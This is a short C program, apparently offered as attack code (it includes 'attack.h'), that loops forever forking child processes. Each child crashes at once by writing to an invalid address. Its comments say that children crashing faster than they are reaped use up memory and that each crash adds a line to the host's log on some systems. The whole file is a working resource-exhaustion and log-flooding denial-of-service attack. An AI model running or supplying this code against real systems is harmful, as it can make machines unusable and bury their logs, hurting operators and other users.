#include "attack.h"
// The children that crash faster than they are waited for take memory too.
// Every crash of a child that was not handled writes a line into the host's log on some systems.
int main(void)
{
	for (;;) {
		if (fork() == 0)
			*(volatile int *)1 = 0;
		while (waitpid(-1, NULL, WNOHANG) > 0) { }
	}
}
